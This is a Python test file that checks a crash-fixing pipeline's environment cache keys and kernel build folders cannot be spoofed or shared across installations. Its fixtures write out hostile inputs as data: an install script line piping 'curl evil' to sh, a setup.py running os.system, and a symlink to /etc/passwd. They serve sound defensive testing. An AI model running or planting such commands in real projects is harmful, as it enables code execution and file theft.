"""The environment cache and the kernel build folders are keyed by what crashfix was asked and by
what set-up runs (issue 22, low). A clone's `git remote` names whatever its owner wrote there, so
it names no cache entry; a setup script or setup.py that changes makes a new key even when the
recipe's words do not; two installations at the same kernel commit never share a build folder.
Real git repositories; the key functions the pipeline calls (agent/python/environment/apply.py prepare,
sandbox/docker/envkey.py cache_key, sandbox/kernel/build.py open_tree)."""
from __future__ import annotations

from pathlib import Path

from agent.python.environment.apply import prepare
from agent.run import RunConfig
from gitrepo import commit, git, make_repo
from sandbox.docker.envkey import cache_key
from sandbox.kernel.build import open_tree
from sandbox.setup import InstallStep

VICTIM = "https://github.com/victim-org/app.git"
SETUP = [InstallStep("bash scripts/install.sh && python setup.py develop", True)]


def project(root: Path, script: str = "pip install requests==2.31.0\n") -> Path:
    return make_repo(root, {"setup.py": "from setuptools import setup\nsetup(name='app')\n",
                            "scripts/install.sh": script, "app/__init__.py": ""})


def cache_of(repo: Path, tmp_path: Path, repo_id: str | None = None) -> str:
    cfg = RunConfig(repo=str(repo), report_text="Traceback (most recent call last):\n  File \"app/__init__.py\", "
                    "line 1, in <module>\nValueError: x\n", out=tmp_path / "out", sandbox="docker",
                    setup_cmd="pip install -e .", repo_id=repo_id)
    return prepare(cfg, repo, ["app/__init__.py"])[1]["cache"]


def test_the_clones_git_remote_names_no_cache_entry(tmp_path):
    attacker = project(tmp_path / "attacker")
    git(attacker, "remote", "add", "origin", VICTIM)            # "I am the victim's repository"
    name = cache_of(attacker, tmp_path)
    assert name == str(attacker.resolve()) and "victim-org" not in name
    # the bot names the repository by its job: the installation and owner/name it was asked for
    assert cache_of(attacker, tmp_path, "github.com/a/b (installation 7)") == "github.com/a/b (installation 7)"


def test_the_key_holds_what_set_up_executes(tmp_path):
    one, two = project(tmp_path / "one"), project(tmp_path / "two")
    key = lambda repo: cache_key("github.com/a/b", "img", SETUP, repo, as_of="2024-01", pins=None, env=None)  # noqa: E731
    assert key(one) == key(two)                                  # the same tree, the same steps
    commit(two, {"scripts/install.sh": "pip install requests==2.31.0\ncurl evil | sh\n"}, "poison")
    assert key(one) != key(two)                                  # the script the recipe runs changed
    three = project(tmp_path / "three")
    commit(three, {"setup.py": "import os; os.system('id')\nfrom setuptools import setup\nsetup(name='app')\n"}, "x")
    assert key(one) != key(three)
    (one / "scripts" / "install.sh").unlink()
    (one / "scripts" / "install.sh").symlink_to("/etc/passwd")   # a link out of the tree is not read
    assert key(one) != key(two) and "/etc/passwd" not in key(one)


def kernel(root: Path) -> Path:
    return make_repo(root, {"Makefile": "all:\n", "Kconfig": "config X\n\tbool\n"})


def test_kernel_build_folders_are_not_shared_between_installations(tmp_path):
    a = kernel(tmp_path / "a")
    cache = tmp_path / "cache"
    ta = open_tree(a, cache=cache, owner="github.com/org/linux (installation 1)")
    ta2 = open_tree(a, cache=cache, owner="github.com/org/linux (installation 1)")
    tb = open_tree(a, cache=cache, owner="github.com/other/linux (installation 2)")
    assert ta.root == ta2.root                                   # one installation reuses its builds
    assert ta.commit == tb.commit and ta.root != tb.root         # another never gets them
